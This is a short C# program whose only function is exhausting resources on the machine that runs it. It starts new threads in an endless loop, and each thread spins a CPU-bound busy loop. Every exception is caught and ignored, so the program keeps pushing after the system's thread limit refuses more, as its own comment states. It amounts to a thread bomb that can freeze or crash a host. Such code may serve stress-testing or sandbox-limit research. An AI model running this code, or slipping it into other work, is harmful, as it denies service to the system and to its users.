using System.Threading;
public class Program {
  public static void Main() {
    // Spinning threads until the process limit refuses more, ignoring the refusals.
    while (true) {
      try {
        new Thread(() => { long counter = 0; while (counter >= 0) counter = (counter * 31 + 7) & 0xffffff; }).Start();
      } catch (System.Exception) {
      }
    }
  }
}
